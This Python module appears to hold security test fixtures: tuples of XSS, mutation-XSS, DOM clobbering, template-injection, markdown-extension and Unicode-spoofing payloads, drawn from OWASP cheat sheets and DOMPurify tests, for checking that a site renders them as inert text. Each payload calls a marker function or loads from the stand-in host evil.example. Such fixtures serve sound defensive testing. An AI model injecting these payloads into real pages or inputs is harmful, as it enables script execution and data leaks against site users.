"""What an attacker writes where people write words: markup, addresses, templates, marks of builders, and letters that mislead.

Collected from the OWASP XSS filter evasion and DOM clobbering cheat sheets, from DOMPurify's test suite (mutation XSS),
and from what the programs on our own way understand: YAML, Jinja, Python-Markdown with its extensions, HTML and SVG.
Each calls ``hit()`` or asks `ELSEWHERE` for something; a page that shows them as text does neither.
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "https://evil.example"
MARKUP: Final = (
    "<script>hit(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit(2)</scr</script>ipt>",
    "<script/x>hit(3)</script\t>",
    "<<script>hit(4)//<</script>",
    "<img src=x onerror=hit(5)>",
    "<img src=https://evil.example/pixel.png>",
    "<img/src/onerror=hit(6)>",
    '"><img src=x onerror=hit(7)>',
    "'><svg onload=hit(8)>",
    '" onmouseover="hit(9)" autofocus onfocus="hit(9)',
    "' autofocus onfocus=hit(10) x='",
    "` onerror=hit(11) `",
    "<svg onload=hit(12)>",
    "<svg><script>hit(13)</script></svg>",
    "<svg><animate onbegin=hit(14) attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:hit(15)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>hit(16)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit(17)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hit(18)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(19)>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit(20)>'>",
    "<template><s><template shadowrootmode=open><img src=x onerror=hit(21)></template></s></template>",
    "<iframe src=javascript:hit(22)></iframe>",
    "<iframe srcdoc='<script>parent.hit(23)</script>'></iframe>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<video><source onerror=hit(24)></video>",
    "<audio src=x onerror=hit(25)>",
    "<details open ontoggle=hit(26)>",
    "<body onload=hit(27)>",
    "<input autofocus onfocus=hit(28)>",
    "<marquee onstart=hit(29)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/r'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/i.css';*{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/s)'>",
    "</title><script>hit(30)</script>",
    "&lt;/title&gt;&lt;script&gt;hit(31)&lt;/script&gt;",
    "</textarea></script></style></noscript><script>hit(32)</script>",
    "--><script>hit(33)</script><!--",
    "]]><script>hit(34)</script>",
    "<!--[if IE]><script>hit(35)</script><![endif]-->",
    "<?php echo 1 ?><script>hit(36)</script>",
)
ADDRESSES: Final = (
    "javascript:hit(40)",
    "JaVaScRiPt:hit(41)",
    "java\tscript:hit(42)",
    "&#106;avascript:hit(43)",
    "data:text/html,<script>hit(44)</script>",
    "//evil.example/x",
    "[x](javascript:hit(45))",
    "[x](<javascript:hit(46)>)",
    "![x](https://evil.example/m.png)",
    '![x](x "onerror=hit(47)")',
    "<javascript:hit(48)>",
    "[x]: javascript:hit(49) '\"><script>hit(49)</script>'",
)
CLOBBERING: Final = (
    "<a id=__config></a>",
    "<form id=document name=getElementById><input name=body></form>",
    "<img name=__md_get><a id=__md_scope href=https://evil.example/>",
    "<a id=hit></a><a id=hit name=length>",
)
TEMPLATES: Final = (
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{% import 'os' %}{% for x in y %}",
    "{# hidden #}${7*7}<%= 7*7 %>#{7*7}",
    "{{constructor.constructor('hit(50)')()}}",
    '--8<-- "leitstand.toml"',
    "::: toolkit.settings",
    "{: onclick=hit(51) }",
    "text{ onclick=hit(52) }",
    "[TOC] [[wiki]] :material-alert: ==m== ^^i^^ ~~d~~ ++ctrl++",
    '!!! danger "<script>hit(53)</script>"',
    "```\n</code></pre><script>hit(54)</script>",
    "~~~ {.x onclick=hit(55)}",
    "<div markdown=1><script>hit(56)</script></div>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 klzzwxh:0001",
    "lsMark0content9 lsMark0title9 lsMark0edit9 lsMark0folder9/lsMark0page9",
)
LETTERS: Final = (
    "\u202egnp.exe\u202c <script>hit(60)</script>",
    "\u2066\u2067<img src=x onerror=hit(61)>\u2069",
    "a\x00<scr\x00ipt>hit(62)</script>",
    "\ufeff<script>hit(63)</script>\ufeff",
    "\uff1cscript\uff1ehit(64)\uff1c/script\uff1e",
    "+ADw-script+AD4-hit(65)+ADw-/script+AD4-",
    "<img src=x\u2028onerror=hit(66)>\u2029",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
)
ATTACKS: Final = (*MARKUP, *ADDRESSES, *CLOBBERING, *TEMPLATES, *LETTERS)
# For places that YAML or TOML read: letters that both refuse however they are written are left out.
WRITABLE: Final = tuple(one for one in ATTACKS if "\x00" not in one)
